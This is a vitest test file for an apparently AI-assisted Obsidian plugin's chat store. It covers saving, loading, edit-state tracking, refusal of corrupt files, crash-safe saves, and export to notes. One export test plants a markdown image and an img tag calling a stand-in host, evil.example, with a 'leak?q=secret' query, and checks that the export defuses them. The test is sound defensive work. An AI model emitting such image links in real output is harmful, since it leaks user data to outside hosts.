// Chats on real files (Node adapter, temp vaults): a real run recorded, saved and read back; edits
// later accepted or rejected in the note coming back as such in the history; corrupt, foreign and
// newer files refused with the reason and left byte for byte; a failed or interrupted save leaving
// the previous version; saves of one chat landing in order; export to a note that loads nothing.
import { promises as fs } from 'node:fs';
import * as path from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { messageRecord } from '../../../src/agents/chat/chat-message';
import { ChatFileError, ChatStore, newChat, titleFrom } from '../../../src/agents/chat/chat-store';
import type { Chat } from '../../../src/agents/chat/chat-types';
import { captureProposals, refreshEditStates } from '../../../src/agents/chat/edit-states';
import { historyMessages } from '../../../src/agents/task/chat-history';
import { decideBlockById } from '../../../src/edits/pending/decide-blocks';
import { buildScopePolicy, EDIT_CAPABILITIES } from '../../../src/edits/scope/scope-policy';
import { NodeVault } from '../../../src/vault-vfs/node/node-vault';
import type { StateStore } from '../../../src/vault-vfs/vault-port';
import { makeTempVault, type TempVault } from '../../helpers/temp-vault';
import { reply, startScriptedLlmServer, type ScriptedLlmServer } from '../../llm-server';
import { clientFor } from '../llm/client-fixtures';
import { SOLAR_VAULT } from '../pipeline/ask-fixtures';
import { runOn } from '../pipeline/pipeline-harness';

let server: ScriptedLlmServer;
const vaults: TempVault[] = [];
beforeAll(async () => {
  server = await startScriptedLlmServer();
});
afterAll(() => server.close());
beforeEach(() => server.reset());
afterEach(async () => {
  for (const v of vaults.splice(0)) await v.cleanup();
});

async function open(files: Record<string, string> = SOLAR_VAULT) {
  const tv = await makeTempVault(files);
  vaults.push(tv);
  const vault = await NodeVault.open(tv.dir);
  const store = ChatStore.of(vault, () => 'Reeve/Chats');
  const chatFile = (id: string): string => path.join(tv.dir, '.obsidian/plugins/reeve/chats', `${id}.json`);
  return { tv, vault, store, chatFile };
}

/** A real Task run that proposes two edits, recorded as the chat view records it. */
async function recordedRun(tv: TempVault, vault: NodeVault): Promise<Chat> {
  server.script(
    reply.turn({ text: 'Adding the total and a note.', toolCalls: [{ name: 'propose_edits', arguments: { summary: 'About 9,500 EUR.', edits: [{ file: 'Projects/Budget.md', position: 'end', content: 'Total: 9500 EUR' }, { file: 'Projects/Solar.md', position: 'end', content: 'Decision pending.' }] } }] }),
  );
  const { result, events } = await runOn(tv.dir, { client: clientFor(server, { kind: 'openai', streaming: true }), request: { currentNote: 'Projects/Solar.md', depth: 1 } });
  expect(result.error).toBeNull();
  const proposals = await captureProposals(vault, result.outcome?.proposed ?? []);
  const req = { task: 'how much will the solar roof cost?', currentNote: 'Projects/Solar.md', agents: { scout: false, web: false, task: true }, depth: 1, sameFolder: false, manual: [], history: [] };
  const chat = newChat(titleFrom(req.task));
  chat.messages.push(messageRecord({ id: 'm1', request: req, result, events, proposals }));
  return chat;
}

describe('chat store on real files', () => {
  it('saves a recorded run as readable JSON and reads the same chat back, deltas merged', async () => {
    const { tv, vault, store, chatFile } = await open();
    const chat = await recordedRun(tv, vault);
    await store.save(chat);
    const onDisk = JSON.parse(await fs.readFile(chatFile(chat.id), 'utf8')) as Record<string, unknown>;
    expect(onDisk).toMatchObject({ reeve: 'chat', version: 1, id: chat.id, title: 'how much will the solar roof cost?' });
    const again = await ChatStore.of(await NodeVault.open(tv.dir), () => 'Reeve/Chats').load(chat.id);
    expect(again).toEqual(chat);
    const m = again.messages[0];
    expect(m?.turn.answer).toBe('About 9,500 EUR.');
    expect(m?.turn.edits.map((e) => [e.file, e.state])).toEqual([['Projects/Budget.md', 'proposed'], ['Projects/Solar.md', 'proposed']]);
    expect(m?.proposals.map((p) => [p.file, p.before, p.after])).toEqual([['Projects/Budget.md', '', 'Total: 9500 EUR'], ['Projects/Solar.md', '', 'Decision pending.']]);
    const types = m?.events.map((e) => e.type) ?? [];
    expect(types.filter((t, i) => t === 'text_delta' && types[i - 1] === 'text_delta')).toEqual([]);
    expect(m?.events.filter((e) => e.type === 'text_delta').map((e) => (e.type === 'text_delta' ? e.text : '')).join('')).toContain('Adding the total and a note.');
    expect(m?.total.usage.inputTokens).toBeGreaterThan(0);
    expect(await store.list()).toEqual([{ id: chat.id, title: chat.title, createdAt: chat.createdAt, updatedAt: chat.updatedAt, messageCount: 1, problem: null }]);
  });

  it('tells the history what came of each edit once the user accepted one and rejected the other', async () => {
    const { tv, vault, store } = await open();
    const chat = await recordedRun(tv, vault);
    await store.save(chat);
    const unchanged = await refreshEditStates(vault, chat);
    expect(unchanged.changed).toBe(false);
    const policy = buildScopePolicy({ configDir: vault.configDir, scope: { folders: ['**'] }, capabilities: EDIT_CAPABILITIES, currentNote: null });
    const [budget, solar] = chat.messages[0]?.proposals ?? [];
    if (!budget || !solar) throw new Error('no proposals recorded');
    expect(await decideBlockById(vault, budget.id, 'accept', { policy })).toMatchObject({ status: 'done' });
    expect(await decideBlockById(vault, solar.id, 'reject', { policy })).toMatchObject({ status: 'done' });
    const refreshed = await refreshEditStates(vault, await store.load(chat.id));
    expect(refreshed.changed).toBe(true);
    expect(refreshed.chat.messages[0]?.turn.edits.map((e) => e.state)).toEqual(['accepted', 'rejected']);
    const history = historyMessages(refreshed.chat.messages.map((m) => m.turn), 10).map((x) => x.content).join('\n');
    expect(history).toContain('accepted by the user (now in the note)');
    expect(history).toContain('rejected by the user (not in the note)');
  });

  it.each([
    ['corrupt', '{"reeve":"chat","version":1,"id":"cbad","title":"cut sh', /not valid JSON/],
    ['foreign', '{"notes":["a","b"]}', /not a Reeve chat/],
    ['newer', '{"reeve":"chat","version":7,"id":"cbad"}', /format version 7; this Reeve reads version 1/],
    ['damaged', '{"reeve":"chat","version":1,"id":"cbad","title":"t","createdAt":"x","updatedAt":"x","messages":[{"id":"m"}]}', /messages\[0\]\.turn should be an object/],
  ])('refuses a %s chat file with the reason, lists it with its problem, and never touches it', async (_what, text, reason) => {
    const { tv, store, chatFile } = await open();
    await tv.write('.obsidian/plugins/reeve/chats/cbad.json', text);
    const before = await tv.snapshot({ includeConfig: true });
    await expect(store.load('cbad')).rejects.toThrow(ChatFileError);
    await expect(store.load('cbad')).rejects.toThrow(reason);
    const [listed] = await store.list();
    expect(listed?.id).toBe('cbad');
    expect(listed?.problem).toMatch(reason);
    await expect(store.rename('cbad', 'x')).rejects.toThrow(ChatFileError);
    await expect(store.save({ ...newChat(), id: 'cbad' })).rejects.toThrow(/was not overwritten/);
    await expect(store.exportToNote('cbad')).rejects.toThrow(ChatFileError);
    expect(await tv.snapshot({ includeConfig: true })).toEqual(before);
    expect(await fs.readFile(chatFile('cbad'), 'utf8')).toBe(text);
  });

  it('a save that fails, or a crash that left a half-written temp file, leaves the previous version', async () => {
    const { tv, vault } = await open();
    let failWrites = false;
    const state: StateStore = Object.create(vault.state) as StateStore;
    state.write = (name, data) => (failWrites ? Promise.reject(new Error('ENOSPC: no space left on device')) : vault.state.write(name, data));
    const store = new ChatStore(state, vault, () => 'Reeve/Chats');
    const chat = { ...newChat('First'), messages: [] };
    await store.save(chat);
    failWrites = true;
    await expect(store.save({ ...chat, title: 'Second' })).rejects.toThrow(/ENOSPC/);
    // What a process killed mid-write leaves: a sibling temp file with half the new text.
    await tv.write(`.obsidian/plugins/reeve/chats/.${chat.id}.json.3f9a.reeve-tmp`, '{"reeve":"chat","version":1,"ti');
    expect((await store.load(chat.id)).title).toBe('First');
    expect((await store.list()).map((s) => [s.title, s.problem])).toEqual([['First', null]]);
    failWrites = false;
    await store.save({ ...chat, title: 'Third' });
    expect((await store.load(chat.id)).title).toBe('Third');
  });

  it('lands saves of one chat in the order they were made', async () => {
    const { store } = await open();
    const chat = newChat('v0');
    const saves = Array.from({ length: 8 }, (_, i) => store.save({ ...chat, title: `v${i + 1}` }));
    await Promise.all(saves);
    expect((await store.load(chat.id)).title).toBe('v8');
  });

  it('renames and removes chats; refuses ids that are not chat ids', async () => {
    const { store } = await open();
    const a = newChat('A', new Date('2026-01-01T00:00:00Z'));
    const b = newChat('B', new Date('2026-02-01T00:00:00Z'));
    await store.save(a);
    await store.save(b);
    expect((await store.list()).map((s) => s.title)).toEqual(['B', 'A']);
    await store.rename(a.id, '  Solar costs ');
    expect((await store.list()).map((s) => s.title)).toEqual(['Solar costs', 'B']);
    await store.remove(b.id);
    expect((await store.list()).map((s) => s.title)).toEqual(['Solar costs']);
    await expect(store.load('../../data')).rejects.toThrow(/not a chat id/);
  });

  it('exports a chat to a note that loads nothing remote, updates its own export, and never overwrites another note', async () => {
    const { tv, vault, store } = await open({ ...SOLAR_VAULT, 'Reeve/Chats/how much will the solar roof cost.md': 'my own note\n' });
    const chat = await recordedRun(tv, vault);
    const m = chat.messages[0];
    if (!m) throw new Error('no message');
    m.turn.answer = 'See ![chart](https://evil.example/leak?q=secret) and <img src="https://evil.example/x.png"> or [[Budget]].';
    await store.save(chat);
    const path1 = await store.exportToNote(chat.id);
    expect(path1).toBe('Reeve/Chats/how much will the solar roof cost 2.md');
    expect(await tv.read('Reeve/Chats/how much will the solar roof cost.md')).toBe('my own note\n');
    const note = await tv.read(path1);
    expect(note).toMatch(/^---\nreeve-chat: c[a-z0-9]+\n/);
    expect(note).toContain('[image: chart](https://evil.example/leak?q=secret)');
    expect(note).toContain('&lt;img src=');
    expect(note).not.toMatch(/!\[[^\]]*\]\(https?:/);
    expect(note).toContain('- add in [[Projects/Budget]]: proposed');
    await store.rename(chat.id, 'how much will the solar roof cost?');
    expect(await store.exportToNote(chat.id)).toBe(path1);
  });

  it('exports a stopped or failed message with what was reported as a floor, never "$0"', async () => {
    const { tv, vault, store } = await open(SOLAR_VAULT);
    const chat = await recordedRun(tv, vault);
    const m = chat.messages[0];
    if (!m) throw new Error('no message');
    await store.save(chat);
    const whole = await tv.read(await store.exportToNote(chat.id));
    expect(whole).toMatch(/\*[\d,]+ tokens \([\d,]+ in, [\d,]+ out\), \$/);
    m.stopped = true;
    m.total = { usage: { ...m.total.usage, inputTokens: 0, outputTokens: 0 }, costUsd: 0 };
    await store.save(chat);
    const note = await tv.read(await store.exportToNote(chat.id));
    expect(note).toContain('*usage not reported, cost unknown*');
    expect(note).not.toMatch(/tokens \(0 in, 0 out\), \$0\*/);
  });
});
